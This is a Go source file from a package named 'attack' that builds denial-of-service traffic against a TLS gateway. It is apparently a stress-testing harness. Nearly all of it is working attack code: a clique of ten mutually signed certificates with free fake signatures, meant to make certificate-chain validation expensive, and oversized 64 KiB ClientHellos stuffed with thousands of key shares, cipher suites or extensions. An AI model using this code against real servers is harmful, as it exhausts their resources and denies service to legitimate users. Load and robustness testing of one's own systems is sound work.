package attack

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/binary"
	"fmt"
	"io"
	"math/big"
	"net"
	"time"
)

// cliqueSize is the number of certificates in a costly chain: the default of
// limits.chain.
const cliqueSize = 10

// clique makes certificates with P-521 keys that have all signed each other, under one name.
// Their alternative names differ, so that crypto/x509 takes each for another certificate.
// name is the subject and issuer of all, in DER.
func clique(name []byte) (tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	out := tls.Certificate{PrivateKey: noProof{key}}
	for i := range cliqueSize {
		c := &x509.Certificate{
			SerialNumber: big.NewInt(int64(i + 1)), RawSubject: name, IsCA: i > 0, BasicConstraintsValid: true,
			NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(9 * time.Hour),
			DNSNames: []string{fmt.Sprintf("a%d.example", i)}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
		}
		der, err := x509.CreateCertificate(rand.Reader, c, &x509.Certificate{RawSubject: name}, key.Public(), key)
		if err != nil {
			return out, err
		}
		out.Certificate = append(out.Certificate, der)
	}
	return out, nil
}

// noProof makes invalid signatures that cost nothing.
type noProof struct{ crypto.Signer }

func (noProof) Sign(io.Reader, []byte, crypto.SignerOpts) ([]byte, error) {
	return make([]byte, 72), nil
}

// costly makes handshakes with a clique as chain. Its name is that of a CA that the gateway calls
// acceptable, if it calls any.
func (a *assault) costly(ctx context.Context, c net.Conn, _ time.Time) {
	cfg := a.tls.Clone()
	cfg.GetClientCertificate = func(r *tls.CertificateRequestInfo) (*tls.Certificate, error) {
		a.mu.Lock()
		defer a.mu.Unlock()
		if a.chain == nil {
			name := pkix.Name{CommonName: "X"}.ToRDNSequence()
			der, err := asn1.Marshal(name)
			if len(r.AcceptableCAs) > 0 {
				der = r.AcceptableCAs[0]
			}
			if err != nil {
				return nil, err
			}
			chain, err := clique(der)
			if err != nil {
				return nil, err
			}
			a.chain = &chain
		}
		return a.chain, nil
	}
	a.shakeWith(ctx, c, cfg)
}

// say sends the same bytes on each connection and waits for its end.
func (a *assault) say(b []byte) func(context.Context, net.Conn, time.Time) {
	return func(ctx context.Context, c net.Conn, _ time.Time) {
		_ = c.SetWriteDeadline(time.Now().Add(dialTimeout))
		_, _ = c.Write(b)
		a.await(ctx, c)
	}
}

// plainHTTP is a request to a port that speaks TLS.
func plainHTTP(host string) []byte {
	return fmt.Appendf(nil, "GET / HTTP/1.1\r\nHost: %s\r\nUser-Agent: assault\r\n\r\n", host)
}

// What fits a ClientHello of 64 KiB.
const (
	mostShares     = 9300
	mostSuites     = 32000
	mostExtensions = 16300
)

// sharesHello offers as many key shares as fit, their groups listed backwards.
func sharesHello() []byte {
	var groups, shares []byte
	for i := range mostShares {
		groups = binary.BigEndian.AppendUint16(groups, uint16(0x4000+mostShares-i))
		shares = binary.BigEndian.AppendUint16(shares, uint16(0x4001+i))
		shares = append(shares, 0, 1, 0)
	}
	return hugeHello([]byte{0x13, 1}, groups, shares, 0)
}

// suitesHello offers as many CipherSuites as fit, the only known one last.
func suitesHello() []byte {
	var suites []byte
	for i := range mostSuites {
		suites = binary.BigEndian.AppendUint16(suites, uint16(0x4000+i%0x3000))
	}
	return hugeHello(append(suites, 0x13, 1), nil, nil, 0)
}

// extensionsHello has as many extensions without content as fit.
func extensionsHello() []byte { return hugeHello([]byte{0x13, 1}, nil, nil, mostExtensions) }

// hugeHello is a ClientHello for TLS 1.3 in records. To groups and shares one
// of X25519 is added.
func hugeHello(suites, groups, shares []byte, extensions int) []byte {
	list := func(b []byte) []byte { return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...) }
	ext := func(b []byte, typ int, data []byte) []byte {
		return append(binary.BigEndian.AppendUint16(b, uint16(typ)), list(data)...)
	}
	key := make([]byte, 32)
	_, _ = rand.Read(key) // never fails
	groups = append(groups, 0, 29)
	shares = append(append(shares, 0, 29, 0, 32), key...)
	e := ext(nil, 43, []byte{2, 3, 4})
	e = ext(e, 13, []byte{0, 2, 4, 3})
	e = ext(e, 10, list(groups))
	e = ext(e, 51, list(shares))
	for i := range extensions {
		e = ext(e, 0x4000+i, nil)
	}
	b := append([]byte{1, 0, 0, 0, 3, 3}, make([]byte, 32)...)
	b = append(append(b, 0), list(suites)...)
	b = append(append(b, 1, 0), list(e)...)
	n := len(b) - 4
	b[1], b[2], b[3] = byte(n>>16), byte(n>>8), byte(n)
	var out []byte
	for len(b) > 0 {
		part := b[:min(len(b), 1<<14)]
		out = append(append(out, 22, 3, 1), list(part)...)
		b = b[len(part):]
	}
	return out
}
